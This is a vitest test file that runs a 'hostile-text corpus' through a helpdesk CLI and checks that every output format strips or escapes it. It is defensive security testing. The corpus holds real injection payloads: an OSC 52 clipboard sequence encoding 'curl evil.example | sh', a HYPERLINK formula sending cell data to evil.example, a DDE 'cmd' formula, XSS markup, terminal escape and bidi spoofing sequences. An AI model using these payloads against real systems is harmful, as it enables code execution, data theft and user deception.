// The hostile-text corpus: strings an attacker would send — terminal control sequences, bidi
// overrides, spreadsheet formulas, markup, very long text, every script — put into every field
// a customer or stranger writes, then every command and every output format is run and checked
// for what must not appear in it (docs/safe-text.md). desk runs in-process on a real helpdesk.
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { XMLValidator } from 'fast-xml-parser';
import { openTicket, type InProcessHelpdesk } from '../helpers/helpdesk.js';
import { at, billing, invoiceHelpdesk } from '../invoice/helpers.js';
import { pdfText } from '../invoice/documents.js';
import { csvCells } from '../helpers/csv.js';

const ESC = '\u001b';
const CORPUS = {
  osc: `${ESC}]0;pwned\u0007${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007Titel`,
  csi: `${ESC}[2J${ESC}[1;31mrot${ESC}[8mversteckt${ESC}[0m\u009b2J`,
  controls: `a\u0000b\u0007c\u0008d\rÜberschrieben\u000be\u007ff`,
  bidi: `Rechnung \u202egpj.exe\u202c und \u2066isoliert\u2069 \u200fRLM`,
  formula: `=1+1+HYPERLINK("https://evil.example/?d="&A1,"Klick")`,
  formulas: `@SUM(1+1)*cmd|' /C calc'!A0`,
  plus: '+49 30 1234567',
  markup: `<script>alert(1)</script> <img src=x onerror=alert(2)> [klick](javascript:alert(3)) **fett** | pipe | \`\`\` # h`,
  long: `Sehr lang ${'Ω€字ab'.repeat(4000)}`,
  scripts: 'Müller Ωμέγα Жуков 王小明 山田太郎 김민준 محمد كريم דוד לוי हिन्दी ไทย 👩‍💻 🏳️‍🌈 é́',
} as const;
/** For fields of legal documents: what XML can carry (no C0 controls), still hostile. */
const DOCUMENT_SAFE = [CORPUS.bidi, CORPUS.formula, CORPUS.markup, CORPUS.scripts].join(' ');

/** What no terminal output may contain: C0 controls but tab and line feed, DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex
const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

let hd: InProcessHelpdesk;
const ids: string[] = [];
const runs: { args: string[]; stdout: string; stderr: string; code: number }[] = [];

async function desk(args: string[], env: Record<string, string> = {}) {
  // reads run after everything was recorded and invoiced, so every report's day is past
  const r = await hd.desk(args, { env: { ...at('2026-12-02'), ...env } });
  runs.push({ args, ...r });
  expect(r.code, `desk ${args.map((a) => a.slice(0, 40)).join(' ')}: ${r.stderr.slice(0, 300)}`).toBe(0);
  return r.stdout;
}

beforeAll(async () => {
  hd = await invoiceHelpdesk({
    // a customer whose name, address and contacts were typed in from a hostile form
    'contracts/evil.yaml': `id: evil
name: ${JSON.stringify(DOCUMENT_SAFE.slice(0, 500))}
address: { street: ${JSON.stringify(`${CORPUS.formula} 1`)}, postalCode: "10115", city: ${JSON.stringify(CORPUS.bidi)}, country: DE }
invoiceEmail: rechnung@evil.example
projectLead: tb
salesRep: sh
contacts:
  - { name: ${JSON.stringify(CORPUS.markup)}, email: x@evil.example, role: ${JSON.stringify(CORPUS.formulas)} }
contracts:
  - { kind: none, start: 2026-01-01, hourlyRate: "100.00" }
`,
  });
  const env = at('2026-11-16');
  for (const [name, text] of Object.entries(CORPUS)) {
    // eslint-disable-next-line no-control-regex
    const title = text.replace(/[\n\r\u000b\u000c\u2028\u2029]/g, ' ');
    const id = await openTicket(
      hd,
      [
        '--customer',
        name === 'scripts' ? 'acme' : 'evil',
        '--title',
        title,
        '--contact',
        title.slice(0, 200),
        '--description',
        text,
        '--category',
        'question',
        '--priority',
        'high',
      ],
      env,
    );
    ids.push(id);
    await desk(['comment', id, '-m', text], env);
    await desk(['reply', id, '-m', text], env);
    await desk(['reply', id, '--from-customer', '-m', text], env);
    await desk(['log', id, '45m', '-m', text, '--on', '2026-11-16'], env);
    await desk(['tag', id, '+kunde'], env);
  }
  const [first, second] = ids as [string, string];
  await desk(['escalate', first, '-r', CORPUS.osc], at('2026-11-17'));
  await desk(['resolve', first, '-s', CORPUS.csi], { ...at('2026-11-17'), DESK_USER: 'jb' });
  await desk(['return', first, '--note', CORPUS.bidi], { ...at('2026-11-17'), DESK_USER: 'jb' });
  await desk(['close', first, '--accepted-by', CORPUS.formula], at('2026-11-18'));
  await desk(['feedback', first, '--score', '2', '-m', CORPUS.markup, '--from', CORPUS.formulas], at('2026-11-18'));
  await desk(['wait', second, '-r', CORPUS.controls], at('2026-11-18'));
  const upload = join(hd.root, '..', `${CORPUS.csi.slice(0, 20).replace(/\//g, '')}=cmd.png`);
  writeFileSync(upload, 'PNG');
  await desk(['attach', second, upload], at('2026-11-18'));
  await desk(['kb', 'new', '--from-ticket', first, '--slug', 'feindlich'], { ...at('2026-11-18'), DESK_USER: 'jb' });
  await desk(['invoice', 'run', '--date', '2026-12-01'], billing('2026-12-01'));
}, 300_000);
afterAll(() => hd.cleanup());

const TERMINAL = (id: string, second: string) => [
  ['list'],
  ['list', '--all', '--sort', 'deadline'],
  ['show', id],
  ['show', second],
  ['queue'],
  ['sla'],
  ['search', 'Rechnung'],
  ['search', 'Titel'],
  ['kb', 'list'],
  ['kb', 'show', 'feindlich'],
  ['kb', 'show', 'feindlich', '--raw'],
  ['kb', 'search', 'Titel'],
  ['customer', 'list'],
  ['customer', 'show', 'evil'],
  ['contract', 'show', 'evil'],
  ['usage', 'evil', '--period', '2026-11'],
  ['usage', 'acme', '--period', '2026-11'],
  ['invoice', 'list'],
  ['invoice', 'show', 'RE-2026-0001'],
  ['invoice', 'show', 'RE-2026-0002'],
  ['invoice', 'list', '--open'],
  ['payment', 'list'],
  ['dunning', 'list'],
  ['status'],
  ['check'],
];
/** The only tags a report page has: its own layout, never one from the corpus. */
const HTML_TAGS = [
  '<html',
  '<head',
  '<meta',
  '<title',
  '<style',
  '<body',
  '<header',
  '<h1',
  '<p',
  '<section',
  '<h2',
  '<h3',
  '<dl',
  '<div',
  '<dt',
  '<dd',
  '<table',
  '<thead',
  '<tr',
  '<th',
  '<tbody',
  '<td',
  '<figure',
  '<figcaption',
  '<svg',
  '<rect',
  '<text',
  '<line',
  '<title',
];
const REPORTS = [
  ['utilization'],
  ['sla'],
  ['resolution'],
  ['hotspots'],
  ['satisfaction'],
  ['sales'],
  ['customer', 'evil'],
  ['backlog'],
];

describe('the hostile-text corpus through every command and format', () => {
  it('no terminal output carries a control sequence, a bidi control or a broken row', async () => {
    for (const args of TERMINAL(ids[0]!, ids[1]!)) {
      const out = await desk(args);
      expect(out, args.join(' ')).not.toMatch(ACTS);
      expect(out).not.toContain(ESC);
    }
    for (const report of REPORTS) expect(await desk(['report', ...report, '--as-of', '2026-11-30'])).not.toMatch(ACTS);
    // a list keeps one row per ticket, whatever the titles hold
    expect((await desk(['list', '--all'])).trimEnd().split('\n')).toHaveLength(ids.length + 1);
  });

  it('--json keeps every text exactly and escapes what a terminal would act on', async () => {
    for (const args of [
      ['show', ids[0]!, '--json'],
      ['list', '--all', '--json'],
      ['sla', '--json'],
      ['kb', 'list', '--json'],
      ['search', 'Titel', '--json'],
      ['customer', 'show', 'evil', '--json'],
      ['invoice', 'show', 'RE-2026-0002', '--json'],
    ]) {
      const out = await desk(args);
      expect(out, args.join(' ')).not.toMatch(ACTS);
      JSON.parse(out);
    }
    const shown = JSON.parse(await desk(['show', ids[0]!, '--json']));
    expect(shown.state.description).toBe(CORPUS.osc);
    expect(shown.events.find((e: { type: string }) => e.type === 'comment').text).toBe(CORPUS.osc);
  });

  it('CSV cells never start a formula; Markdown and HTML carry no markup from the corpus', async () => {
    for (const report of REPORTS) {
      for (const locale of ['en', 'de']) {
        const csv = await desk([
          'report',
          ...report,
          '--format',
          'csv',
          '--csv-locale',
          locale,
          '--as-of',
          '2026-11-30',
        ]);
        expect(csv.replace(/\r\n/g, '\n')).not.toMatch(ACTS); // CRLF ends a record (RFC 4180); no other control
        const bad = csvCells(csv, locale === 'de' ? ';' : ',').filter(
          (c) => /^[=+@\t\r＝＋＠]/.test(c) || /^-(?!\d)/.test(c),
        );
        expect(bad, report.join(' ')).toEqual([]);
      }
      const md = await desk(['report', ...report, '--format', 'md', '--as-of', '2026-11-30']);
      expect(md).not.toMatch(/<script|<img|(?<!\\)\]\(javascript:/i); // an escaped \] makes no link
      expect(md).not.toMatch(ACTS);
      const html = await desk(['report', ...report, '--format', 'html', '--as-of', '2026-11-30']);
      expect(html).not.toMatch(/<script|<img/i);
      const tags = new Set(html.match(/<[a-z0-9]+/g));
      expect([...tags].filter((t) => !HTML_TAGS.includes(t))).toEqual([]);
      expect(html).not.toMatch(ACTS);
      const json = await desk(['report', ...report, '--format', 'json', '--as-of', '2026-11-30']);
      expect(json).not.toMatch(ACTS);
      JSON.parse(json);
    }
  });

  it('git log shows every commit as one line, with no control and no trailer from the corpus', () => {
    const log = execFileSync('git', ['log', '--format=%B%x00%(trailers)%x01'], { cwd: hd.root, encoding: 'utf8' });
    // eslint-disable-next-line no-control-regex
    expect(log.replace(/\u0000|\u0001/g, '')).not.toMatch(ACTS);
    for (const entry of log.split('\u0001').filter((e) => e.trim())) {
      const [message, trailers] = entry.split('\u0000') as [string, string];
      if (message.includes('Invoice run')) continue; // its body lists the invoices, one per line
      expect(message.trim().split('\n'), message.slice(0, 80)).toHaveLength(1);
      expect(trailers.trim()).toBe('');
    }
  });

  it('the e-invoices are well-formed and the PDFs carry no bidi control', async () => {
    for (const n of ['RE-2026-0001', 'RE-2026-0002']) {
      const xml = readFileSync(join(hd.root, `invoices/2026/${n}.xml`), 'utf8');
      expect(XMLValidator.validate(xml)).toBe(true);
      // eslint-disable-next-line no-control-regex
      expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
      const pdf = await pdfText(readFileSync(join(hd.root, `invoices/2026/${n}.pdf`)));
      expect(pdf).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200e\u200f]/);
      // the customer's name in every script prints (fonts with broad coverage are embedded)
      if (n === 'RE-2026-0002')
        for (const name of ['Müller', 'Жуков', '王小明', '山田太郎', '김민준']) expect(pdf).toContain(name);
    }
  });
});
